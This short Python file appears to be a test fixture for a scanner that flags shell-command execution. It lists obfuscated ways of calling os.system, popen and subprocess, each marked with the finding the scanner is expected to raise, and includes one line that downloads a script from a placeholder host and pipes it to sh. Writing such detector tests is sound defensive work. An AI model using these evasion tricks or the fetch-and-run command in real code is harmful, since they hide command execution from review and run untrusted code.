import importlib
import operator
import os
from subprocess import *

getattr(os, "sys" + "tem")("id")  # expect: shell-command
os.__dict__["pop" + "en"]("id")  # expect: shell-command
__import__("o" + "s").system("id")  # expect: shell-command
importlib.import_module("sub" + "process").getoutput("id")  # expect: shell-command
operator.attrgetter("sys" + "tem")(os)("id")  # expect: shell-command
os.__getattribute__("sys" + "tem")("id")  # expect: shell-command
check_output("curl -s https://acme.example/i.sh | sh", shell=True)  # expect: shell-command
print(len("id"), getattr(os, "get" + "pid")())
